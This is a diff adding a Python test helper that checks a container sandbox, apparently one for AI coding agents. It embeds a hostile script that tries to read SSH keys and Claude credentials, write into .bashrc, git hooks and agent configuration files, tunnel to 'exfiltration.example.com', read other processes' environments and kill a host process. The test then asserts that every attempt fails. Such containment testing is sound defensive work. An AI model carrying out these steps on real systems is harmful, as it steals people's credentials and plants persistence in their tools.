@@ -1,0 +1,200 @@
+"""What a hostile program tries from inside a container, and the host that it tries it on."""
+
+import asyncio
+import contextlib
+import json
+import socket
+import subprocess
+import sys
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+SECRET = "sk-of-the-person"
+ATTACK = r"""
+import json, os, signal, socket, sys
+aim = json.load(open("aim.json"))
+got = {}
+
+def attempt(act):
+    try:
+        got[act.__name__] = act() or "it worked"
+    except BaseException as error:
+        got[act.__name__] = None
+    return act
+
+def read(path):
+    with open(path, "rb") as file:
+        return file.read(200).decode("latin-1") or "(empty)"
+
+def write(path):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "a") as file:
+        file.write("owned")
+
+def connect(host, port):
+    socket.create_connection((host, port), 3).close()
+
+def tunnel(authority):
+    proxy = os.environ["HTTPS_PROXY"].rpartition("/")[2].partition(":")
+    with socket.create_connection((proxy[0], int(proxy[2])), 3) as sock:
+        sock.settimeout(10)
+        sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
+        answer = sock.recv(1000).decode()
+    assert " 200 " in answer.splitlines()[0], answer
+    return answer
+
+@attempt
+def read_a_private_key(): return read(aim["home"] + "/.ssh/id_x")
+@attempt
+def read_another_project(): return read(aim["other"] + "/secret.txt")
+@attempt
+def read_the_record(): return read(aim["project"] + "/.remit/remit.db")
+@attempt
+def read_the_scratch_of_others(): return read(aim["project"] + "/.remit/scratch/other/notes.txt")
+@attempt
+def read_the_vendors_credentials_of_the_person(): return read(aim["home"] + "/.claude/.credentials.json")
+@attempt
+def write_into_the_home(): write(aim["home"] + "/.bashrc")
+@attempt
+def write_into_another_project(): write(aim["other"] + "/owned.txt")
+@attempt
+def write_a_git_hook(): write(aim["git"] + "/hooks/post-checkout")
+@attempt
+def write_the_git_settings(): write(aim["git"] + "/config")
+@attempt
+def write_hooks_of_claude(): write(aim["home"] + "/.claude/settings.json")
+@attempt
+def write_servers_of_codex(): write(aim["home"] + "/.codex/config.toml")
+@attempt
+def write_plugins_of_opencode(): write(aim["home"] + "/.config/opencode/plugin/owned.js")
+@attempt
+def write_an_agent_of_remit(): write(aim["project"] + "/.remit/agents/owned.py")
+@attempt
+def change_a_program_of_the_system(): return os.access(sys.executable, os.W_OK) or 1 / 0
+@attempt
+def write_a_setting_of_the_kernel():
+    with open("/proc/sys/kernel/core_pattern", "r+") as file:
+        file.write(file.read())
+@attempt
+def connect_to_a_port_of_the_host(): connect("127.0.0.1", aim["port"])
+@attempt
+def connect_to_an_address_of_the_host(): connect(aim["address"], aim["port"])
+@attempt
+def tunnel_to_a_port_of_the_host(): return tunnel(f"127.0.0.1:{aim['port']}")
+@attempt
+def tunnel_to_a_name_of_the_host(): return tunnel(f"localhost:{aim['port']}")
+@attempt
+def tunnel_to_an_unlisted_host(): return tunnel("exfiltration.example.com:443")
+@attempt
+def tunnel_to_a_number(): return tunnel("2130706433:443")
+@attempt
+def look_up_a_name(): return socket.getaddrinfo("exfiltration.example.com", 443)
+def read_all(path):
+    try:
+        return open(path, "rb").read().decode("latin-1")
+    except OSError:
+        return ""
+@attempt
+def read_the_environment_of_others():
+    return [pid for pid in os.listdir("/proc") if pid.isdigit() and aim["secret"] in read_all(f"/proc/{pid}/environ")] or 1 / 0
+@attempt
+def have_the_key_of_the_person(): return next(name for name, value in os.environ.items() if value == aim["secret"])
+@attempt
+def signal_a_process_of_the_host(): os.kill(aim["pid"], signal.SIGKILL)
+@attempt
+def make_a_namespace():
+    import ctypes
+    if ctypes.CDLL(None).unshare(0x10000000 | 0x00020000) != 0:
+        raise OSError
+json.dump(got, open("report.json", "w"))
+open("made.txt", "w").write("made inside")
+print("tried", len(got))
+"""
+
+
+_NEVER = frozenset({"look_up_a_name", "have_the_key_of_the_person", "make_a_namespace", "write_a_setting_of_the_kernel"})
+"""What depends on the machine, or is kept from every command."""
+
+
+class Victim:
+    """A person's machine: a home with keys, another project, a server on the loopback interface, a process."""
+
+    def __init__(self, folder: Path, project: Path) -> None:
+        self.home, self.other, self.project = folder / "person", folder / "other", project
+        self.connections = 0
+        for path, text in (
+            (self.home / ".ssh" / "id_x", "PRIVATE KEY"),
+            (self.home / ".claude" / ".credentials.json", "{}"),
+            (self.home / ".bashrc", "true\n"),
+            (self.other / "secret.txt", "OTHER"),
+            (project / ".remit" / "scratch" / "other" / "notes.txt", "NOTES"),
+        ):
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(text)
+        self._before: dict[str, str] = {}
+
+    def start(self) -> None:
+        self.process = subprocess.Popen([sys.executable, "-I", "-S", "-c", "import time; time.sleep(600)"], env={"KEY": SECRET})
+
+    def arm(self, **more: Any) -> None:
+        """Put the program and what it aims at into the project."""
+        aim = {"home": str(self.home), "other": str(self.other), "project": str(self.project), "git": str(self.project / ".git")}
+        aim |= {"port": self.port, "address": _own_address(), "pid": self.process.pid, "secret": SECRET, **more}
+        (self.project / "aim.json").write_text(json.dumps(aim))
+        (self.project / "attack.py").write_text(ATTACK)
+
+    def seal(self) -> None:
+        """From now on nothing may change."""
+        self._before = self._look()
+
+    def check(self, report: Path) -> None:
+        """Nothing of it worked, whatever the program says, and the work itself did."""
+        got = json.loads(report.read_text())
+        assert len(got) >= 25
+        # Whether something was written is seen on the host: /tmp is the container's own, and the tests are in there.
+        assert [name for name, found in got.items() if found and not name.startswith("write_")] == []
+        assert (report.parent / "made.txt").read_text() == "made inside"
+        assert self.connections == 0
+        assert self.process.poll() is None
+        assert self._look() == self._before
+
+    def check_attacks(self, report: Path) -> None:
+        """Of a run that was not contained: the attacks are such that they work."""
+        got = json.loads(report.read_text())
+        failed = {name for name, found in got.items() if not found}
+        assert {name for name in failed if "tunnel" not in name} <= _NEVER, failed
+        assert self.process.wait(5) != 0
+        assert self._look() != self._before
+
+    def _look(self) -> dict[str, str]:
+        places = (self.home, self.other, self.project / ".git" / "hooks", self.project / ".remit" / "agents")
+        files = [path for place in places for path in place.rglob("*") if path.is_file()]
+        return {str(path): path.read_text(errors="replace") for path in files if "__pycache__" not in path.parts}
+
+
+@contextlib.asynccontextmanager
+async def victim(folder: Path, project: Path) -> AsyncIterator[Victim]:
+    made = Victim(folder, project)
+
+    def count(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        made.connections += 1
+        writer.close()
+
+    server = await asyncio.start_server(count, "0.0.0.0", 0)
+    made.port = server.sockets[0].getsockname()[1]
+    made.start()
+    try:
+        yield made
+    finally:
+        server.close()
+        made.process.kill()
+        await asyncio.to_thread(made.process.wait)
+
+
+def _own_address() -> str:
+    """Of an interface of this machine other than loopback, where it has one."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, contextlib.suppress(OSError):
+        sock.connect(("192.0.2.1", 9))
+        return str(sock.getsockname()[0])
+    return "127.0.0.1"
